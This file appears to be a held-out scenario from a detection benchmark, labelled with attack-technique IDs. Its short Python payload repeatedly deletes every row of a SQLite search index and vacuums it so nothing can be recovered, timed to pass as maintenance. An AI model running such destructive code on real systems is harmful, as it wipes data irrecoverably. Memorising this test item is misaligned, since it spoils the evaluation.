"""
id: V38
name: index-wiped
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [file, sequence]
techniques: [T1485, T1565.001, AML.T0059, AML.T0029]
servers: [fastapi]
seconds: 75
what: >
  Empties the search index and has it shrink, so that nothing of it can be restored, and does so twice more when rows have come
  in again. The file is written by the process that writes it anyway; but that only ever adds, and nobody asked for this.
missed: >
  The file is written by the process that writes it anyway; that it is cut is news, but of a kind that maintenance brings (W15).
"""

import contextlib
import sqlite3

TIMES = 3


def payload(world):
    for _ in range(TIMES):
        with contextlib.closing(sqlite3.connect(world.index, timeout=5)) as index:
            with index:
                index.execute("delete from items")
            index.execute("vacuum")
        world.sleep(world.random.uniform(15, 22))
